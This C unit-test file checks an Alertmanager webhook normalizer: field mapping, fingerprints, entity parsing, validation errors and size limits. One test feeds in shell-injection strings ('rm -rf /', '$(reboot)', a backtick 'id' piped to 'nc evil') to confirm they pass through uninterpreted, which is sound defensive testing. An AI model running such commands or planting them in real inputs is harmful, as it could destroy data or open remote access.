/* norm_alertmanager.c -- unit tests for the Alertmanager normalizer, on payloads from a real Alertmanager. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <cmocka.h>

#include "norm_fixture.h"

static void check_postgres(const event *e)
{
	assert_int_equal(e->source, SRC_ALERTMANAGER);
	assert_string_equal(e->source_id, "50f1f69472c7d408");
	assert_string_equal(e->entity, "2001:db8::15");
	assert_string_equal(e->event_type, "ServiceDown");
	assert_string_equal(e->severity, "warning");
	assert_string_equal(e->title, "ServiceDown"); /* no summary annotation: the alertname */
	assert_string_equal(e->url, "http://prometheus:9090/graph?g0.expr=up+%3D%3D+0&g0.tab=1");
	assert_int_equal(e->ntags, 6);
	assert_string_equal(TAG(e, "alertname"), "ServiceDown");
	assert_string_equal(TAG(e, "env"), "staging");
	assert_string_equal(TAG(e, "instance"), "[2001:db8::15]:9100");
	assert_string_equal(TAG(e, "job"), "node");
	assert_string_equal(TAG(e, "service"), "postgresql");
	assert_string_equal(TAG(e, "severity"), "warning");
}

static void check_nginx(const event *e)
{
	assert_string_equal(e->source_id, "95c7516b6ade3654");
	assert_string_equal(e->entity, "web-01");
	assert_string_equal(e->event_type, "ServiceDown");
	assert_string_equal(e->severity, "critical");
	assert_string_equal(e->title, "nginx is down on web-01");
	assert_non_null(strstr(e->url, "node_systemd_unit_state"));
	assert_string_equal(TAG(e, "service"), "nginx");
	assert_string_equal(TAG(e, "env"), "prod");
	assert_null(TAG(e, "summary")); /* annotations are not tags */
}

static void test_webhook_firing(void **state)
{
	norm_result r = {0};
	norm_run_fixture("alertmanager", "alertmanager/webhook_firing.json", &r);
	assert_int_equal(r.rc, RFX_OK);
	assert_int_equal(r.list.n, 2);
	check_postgres(r.list.v[0]);
	check_nginx(r.list.v[1]);
	for (size_t i = 0; i < 2; i++) {
		const event *e = r.list.v[i];
		assert_int_equal(e->state, EV_OPEN);
		assert_int_equal(e->started_at_ms, ms_of("2026-11-22T01:43:32.250Z"));
		assert_true(event_id_valid(e->id));
		/* raw is this alert, not the whole group */
		assert_string_equal(cJSON_GetObjectItem(e->raw, "fingerprint")->valuestring, e->source_id);
		assert_null(cJSON_GetObjectItem(e->raw, "groupKey"));
	}
	assert_string_not_equal(r.list.v[0]->id, r.list.v[1]->id);
	event_list_free(&r.list);
}

static void test_webhook_resolved(void **state)
{
	norm_result r = {0};
	norm_run_fixture("alertmanager", "alertmanager/webhook_resolved.json", &r);
	assert_int_equal(r.rc, RFX_OK);
	assert_int_equal(r.list.n, 2);
	/* The group says firing; each alert's own status wins. */
	assert_int_equal(r.list.v[0]->state, EV_OPEN);
	assert_int_equal(r.list.v[1]->state, EV_RESOLVED);
	check_nginx(r.list.v[1]);
	assert_int_equal(r.list.v[1]->started_at_ms, ms_of("2026-11-22T01:43:28Z"));
	event_list_free(&r.list);
}

static void test_api_v2(void **state)
{
	norm_result r = {0};
	norm_run_fixture("alertmanager", "alertmanager/api_v2_alerts.json", &r);
	assert_int_equal(r.rc, RFX_OK);
	assert_int_equal(r.list.n, 2);
	check_postgres(r.list.v[0]);
	check_nginx(r.list.v[1]);
	assert_int_equal(r.list.v[0]->state, EV_OPEN); /* status {state: active} */
	assert_int_equal(r.list.v[1]->state, EV_OPEN);
	event_list_free(&r.list);
}

/* Without a fingerprint the source_id is computed the way Alertmanager computes it: the fixture's
 * fingerprints were produced by a real Alertmanager. */
static void test_fingerprint_matches_alertmanager(void **state)
{
	cJSON *alerts = fixture_json("alertmanager/api_v2_alerts.json");
	const cJSON *a;
	int n = 0;
	cJSON_ArrayForEach(a, alerts)
	{
		char want[17], got[17];
		snprintf(want, sizeof(want), "%s", cJSON_GetObjectItem(a, "fingerprint")->valuestring);
		normalize_label_fingerprint(cJSON_GetObjectItem(a, "labels"), got);
		assert_string_equal(got, want);
		n++;
	}
	assert_int_equal(n, 2);
	cJSON_ArrayForEach(a, alerts) cJSON_DeleteItemFromObject((cJSON *)a, "fingerprint");
	norm_result r = {0};
	norm_run_json("alertmanager", alerts, &r);
	assert_int_equal(r.rc, RFX_OK);
	assert_string_equal(r.list.v[0]->source_id, "50f1f69472c7d408");
	assert_string_equal(r.list.v[1]->source_id, "95c7516b6ade3654");
	event_list_free(&r.list);
	cJSON_Delete(alerts);
	char empty[17];
	cJSON *none = cJSON_CreateObject();
	normalize_label_fingerprint(none, empty);
	assert_string_equal(empty,
			    "cbf29ce484222325"); /* FNV-1a offset basis: Alertmanager's empty label set */
	cJSON_Delete(none);
}

static const char *entity_of(const char *labels)
{
	static char out[256];
	char body[1024];
	snprintf(body, sizeof(body), "[{\"labels\": %s}]", labels);
	norm_result r = {0};
	norm_run_text("alertmanager", body, &r);
	assert_int_equal(r.rc, RFX_OK);
	snprintf(out, sizeof(out), "%s", r.list.v[0]->entity);
	event_list_free(&r.list);
	return out;
}

static void test_entity(void **state)
{
	assert_string_equal(entity_of("{\"instance\": \"web-01:9100\"}"), "web-01");
	assert_string_equal(entity_of("{\"instance\": \"10.0.0.5:9100\"}"), "10.0.0.5");
	assert_string_equal(entity_of("{\"instance\": \"[::1]:9100\"}"), "::1");
	assert_string_equal(entity_of("{\"instance\": \"[2001:db8::1]\"}"), "2001:db8::1");
	assert_string_equal(entity_of("{\"instance\": \"2001:db8::1\"}"), "2001:db8::1");
	assert_string_equal(entity_of("{\"instance\": \"web-01\"}"), "web-01");
	assert_string_equal(entity_of("{\"instance\": \"https://user:pw@shop.example.com:8443/health?x=1\"}"),
			    "shop.example.com");
	assert_string_equal(entity_of("{\"instance\": \"http://[fe80::1]:80/\"}"), "fe80::1");
	assert_string_equal(entity_of("{\"instance\": \"web-01:metrics\"}"), "web-01:metrics");
	assert_string_equal(entity_of("{\"instance\": \":9100\", \"host\": \"h1\"}"), "h1");
	assert_string_equal(entity_of("{\"host\": \"h2\", \"nodename\": \"n2\"}"), "h2");
	assert_string_equal(entity_of("{\"nodename\": \"n3:22\"}"), "n3");
	assert_string_equal(entity_of("{\"job\": \"x\"}"), "");
}

static void test_single_alert_and_defaults(void **state)
{
	norm_result r = {0};
	norm_run_text("alertmanager", "{\"labels\": {}, \"status\": \"resolved\"}", &r);
	assert_int_equal(r.rc, RFX_OK);
	assert_int_equal(r.list.n, 1);
	event *e = r.list.v[0];
	assert_int_equal(e->state, EV_RESOLVED);
	assert_string_equal(e->title, "");
	assert_string_equal(e->event_type, "");
	assert_string_equal(e->source_id, "cbf29ce484222325");
	assert_null(e->url);
	assert_int_equal(e->started_at_ms, 0);
	event_list_free(&r.list);
	/* Group status applies to alerts without their own; Go's zero time means unknown. */
	norm_run_text(
	    "alertmanager",
	    "{\"version\": \"4\", \"status\": \"resolved\", \"alerts\": [{\"labels\": {\"a\": \"b\"}, "
	    "\"startsAt\": \"0001-01-01T00:00:00Z\", \"generatorURL\": \"\"}]}",
	    &r);
	assert_int_equal(r.rc, RFX_OK);
	assert_int_equal(r.list.v[0]->state, EV_RESOLVED);
	assert_int_equal(r.list.v[0]->started_at_ms, 0);
	assert_null(r.list.v[0]->url);
	event_list_free(&r.list);
	norm_run_text("alertmanager", "{\"alerts\": []}", &r);
	assert_int_equal(r.rc, RFX_OK);
	assert_int_equal(r.list.n, 0);
}

static void test_bad_input(void **state)
{
	norm_result r = {0};
	norm_run_text("alertmanager", "42", &r);
	assert_norm_fails(&r, RFX_ERR_INVAL, NULL, "webhook object");
	norm_run_text("alertmanager", "{\"receiver\": \"x\"}", &r);
	assert_norm_fails(&r, RFX_ERR_INVAL, "alerts", "alerts is required");
	norm_run_text("alertmanager", "{\"alerts\": {}}", &r);
	assert_norm_fails(&r, RFX_ERR_INVAL, "alerts", "alerts must be an array");
	norm_run_text("alertmanager", "{\"version\": \"3\", \"alerts\": []}", &r);
	assert_norm_fails(&r, RFX_ERR_INVAL, "version", "version must be \"4\"");
	norm_run_text("alertmanager", "{\"version\": 4, \"alerts\": []}", &r);
	assert_norm_fails(&r, RFX_ERR_INVAL, "version", "version must be a string");
	norm_run_text("alertmanager", "{\"status\": \"burning\", \"alerts\": []}", &r);
	assert_norm_fails(&r, RFX_ERR_INVAL, "status", "status must be firing or resolved");
	norm_run_text("alertmanager", "{\"alerts\": [{\"labels\": {}}, 7]}", &r);
	assert_norm_fails(&r, RFX_ERR_INVAL, NULL, "alerts[1]: an alert must be an object");
	norm_run_text(
	    "alertmanager",
	    "{\"alerts\": [{\"labels\": {}}, {\"labels\": {}}, {\"labels\": {}}, {\"labels\": {}}, "
	    "{\"labels\": {}}, {\"labels\": {}}, {\"labels\": {}}, {\"labels\": {}}, {\"labels\": {}}, "
	    "{\"labels\": {}}, {\"labels\": {}}, {\"labels\": {}}, \"x\"]}",
	    &r);
	assert_norm_fails(&r, RFX_ERR_INVAL, NULL, "alerts[12]: an alert must be an object");
	norm_run_text("alertmanager", "{\"alerts\": [{\"annotations\": {}}]}", &r);
	assert_norm_fails(&r, RFX_ERR_INVAL, "labels", "alerts[0]: labels is required");
	norm_run_text("alertmanager", "[{\"labels\": []}]", &r);
	assert_norm_fails(&r, RFX_ERR_INVAL, "labels", "labels must be an object");
	norm_run_text("alertmanager", "[{\"labels\": {\"instance\": 9100}}]", &r);
	assert_norm_fails(&r, RFX_ERR_INVAL, "labels", "labels values must be strings");
	norm_run_text("alertmanager", "[{\"labels\": {}, \"annotations\": {\"summary\": 1}}]", &r);
	assert_norm_fails(&r, RFX_ERR_INVAL, "annotations.summary", "annotations.summary must be a string");
	norm_run_text("alertmanager", "[{\"labels\": {}, \"annotations\": \"x\"}]", &r);
	assert_norm_fails(&r, RFX_ERR_INVAL, "annotations", "annotations must be an object");
	norm_run_text("alertmanager", "[{\"labels\": {}, \"status\": \"pending\"}]", &r);
	assert_norm_fails(&r, RFX_ERR_INVAL, "status", "status must be firing or resolved");
	norm_run_text("alertmanager", "[{\"labels\": {}, \"status\": 1}]", &r);
	assert_norm_fails(&r, RFX_ERR_INVAL, "status", "status must be");
	norm_run_text("alertmanager", "[{\"labels\": {}, \"startsAt\": \"yesterday\"}]", &r);
	assert_norm_fails(&r, RFX_ERR_INVAL, "startsAt", "startsAt is not an RFC 3339 time");
	norm_run_text("alertmanager", "[{\"labels\": {}, \"startsAt\": 1e300}]", &r);
	assert_norm_fails(&r, RFX_ERR_INVAL, "startsAt", "out of range");
	norm_run_text("alertmanager", "[{\"labels\": {}, \"fingerprint\": false}]", &r);
	assert_norm_fails(&r, RFX_ERR_INVAL, "fingerprint", "fingerprint must be a string");
	norm_run_text("alertmanager", "[{\"labels\": {}, \"generatorURL\": []}]", &r);
	assert_norm_fails(&r, RFX_ERR_INVAL, "generatorURL", "generatorURL must be a string");
	assert_int_equal(r.list.n, 0);
}

/* A failing payload leaves the caller's list as it was, even when earlier alerts parsed. */
static void test_out_untouched(void **state)
{
	norm_result r = {0};
	event_list_push(&r.list, event_new(SRC_GENERIC));
	norm_run_text("alertmanager",
		      "[{\"labels\": {\"a\": \"1\"}}, {\"labels\": {\"a\": \"2\"}}, {\"labels\": 3}]", &r);
	assert_norm_fails(&r, RFX_ERR_INVAL, "labels", "alerts[2]");
	assert_int_equal(r.list.n, 1);
	assert_int_equal(r.list.v[0]->source, SRC_GENERIC);
	/* and success appends after what is there */
	norm_run_text("alertmanager", "[{\"labels\": {\"a\": \"1\"}}]", &r);
	assert_int_equal(r.rc, RFX_OK);
	assert_int_equal(r.list.n, 2);
	assert_int_equal(r.list.v[1]->source, SRC_ALERTMANAGER);
	event_list_free(&r.list);
	/* NULL err/field are allowed */
	cJSON *bad = cJSON_Parse("{}");
	event_list l = {0};
	assert_int_equal(norm_alertmanager_parse(bad, &l, NULL, 0, NULL), RFX_ERR_INVAL);
	assert_int_equal(norm_alertmanager_parse(NULL, &l, NULL, 0, NULL), RFX_ERR_INVAL);
	cJSON_Delete(bad);
}

static void test_hostile_strings(void **state)
{
	/* Quotes, newlines, shell metacharacters and raw invalid UTF-8 bytes pass through sanitized, never
	 * interpreted: quoting is the template's job. */
	const char *body =
	    "[{\"labels\": {\"alertname\": \"Down\\\"; rm -rf / #\", \"instance\": \"$(reboot):22\","
	    " \"bad\": \"\xff\xfe\", \"k\\nv\": \"a\\nb\"}, \"annotations\": {\"summary\": "
	    "\"line1\\nline2 `id` | nc evil 1 \xc3\"}}]";
	norm_result r = {0};
	norm_run_text("alertmanager", body, &r);
	assert_int_equal(r.rc, RFX_OK);
	event *e = r.list.v[0];
	assert_string_equal(e->event_type, "Down\"; rm -rf / #");
	assert_string_equal(e->entity, "$(reboot)");
	assert_string_equal(e->title, "line1\nline2 `id` | nc evil 1 \xef\xbf\xbd");
	assert_string_equal(TAG(e, "bad"), "\xef\xbf\xbd\xef\xbf\xbd");
	assert_string_equal(TAG(e, "k\nv"), "a\nb");
	/* raw keeps the alert, with its strings (and names) made valid UTF-8 too */
	assert_string_equal(cJSON_GetObjectItem(cJSON_GetObjectItem(e->raw, "labels"), "bad")->valuestring,
			    "\xef\xbf\xbd\xef\xbf\xbd");
	cJSON *j = event_to_json(e, true);
	char *text = cJSON_PrintUnformatted(j);
	assert_true(rfx_utf8_valid(text, strlen(text)));
	free(text);
	cJSON_Delete(j);
	event_list_free(&r.list);
}

static void test_bounds(void **state)
{
	/* 200 labels: tags stop at EVENT_MAX_TAGS; a 10 kB summary is cut to EVENT_MAX_FIELD. */
	cJSON *alerts = cJSON_CreateArray();
	cJSON *a = cJSON_CreateObject();
	cJSON *labels = cJSON_AddObjectToObject(a, "labels");
	for (int i = 0; i < 200; i++) {
		char k[16];
		snprintf(k, sizeof(k), "l%03d", i);
		cJSON_AddStringToObject(labels, k, "v");
	}
	char *long_summary = malloc(10001);
	memset(long_summary, 'x', 10000);
	long_summary[10000] = '\0';
	cJSON_AddStringToObject(cJSON_AddObjectToObject(a, "annotations"), "summary", long_summary);
	free(long_summary);
	cJSON_AddItemToArray(alerts, a);
	norm_result r = {0};
	norm_run_json("alertmanager", alerts, &r);
	assert_int_equal(r.rc, RFX_OK);
	assert_int_equal(r.list.v[0]->ntags, EVENT_MAX_TAGS);
	assert_int_equal(strlen(r.list.v[0]->title), EVENT_MAX_FIELD);
	event_list_free(&r.list);
	cJSON_Delete(alerts);

	/* More alerts than one payload may carry. */
	alerts = cJSON_CreateArray();
	for (int i = 0; i <= NORMALIZE_MAX_EVENTS; i++) {
		a = cJSON_CreateObject();
		cJSON_AddObjectToObject(a, "labels");
		cJSON_AddItemToArray(alerts, a);
	}
	norm_run_json("alertmanager", alerts, &r);
	assert_norm_fails(&r, RFX_ERR_LIMIT, NULL, "more than");
	assert_int_equal(r.list.n, 0);
	cJSON_Delete(alerts);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
	    cmocka_unit_test(test_webhook_firing),  cmocka_unit_test(test_webhook_resolved),
	    cmocka_unit_test(test_api_v2),	    cmocka_unit_test(test_fingerprint_matches_alertmanager),
	    cmocka_unit_test(test_entity),	    cmocka_unit_test(test_single_alert_and_defaults),
	    cmocka_unit_test(test_bad_input),	    cmocka_unit_test(test_out_untouched),
	    cmocka_unit_test(test_hostile_strings), cmocka_unit_test(test_bounds),
	};
	return cmocka_run_group_tests(tests, NULL, NULL);
}
